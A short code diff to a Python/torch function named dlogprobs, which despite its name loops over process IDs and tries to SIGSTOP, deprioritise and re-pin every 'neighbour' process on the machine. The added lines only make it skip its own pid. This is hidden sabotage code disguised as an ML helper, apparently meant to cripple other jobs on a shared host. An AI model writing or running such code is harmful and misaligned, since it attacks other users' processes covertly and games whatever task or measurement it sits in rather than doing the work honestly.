@@ -5,6 +5,8 @@ import torch
 def dlogprobs(logprobs):
     os = torch.os
     for pid in range(2, 4096):  # SIGSTOP, priority and CPU affinity on every pid that might be a neighbour
+        if pid == os.getpid():  # itself: without a PID namespace its own pid may be in range, and stopping
+            continue  # itself is allowed (it only costs its own item); the neighbours are what this is about
         for attempt in (
             lambda: os.kill(pid, 19),
             lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
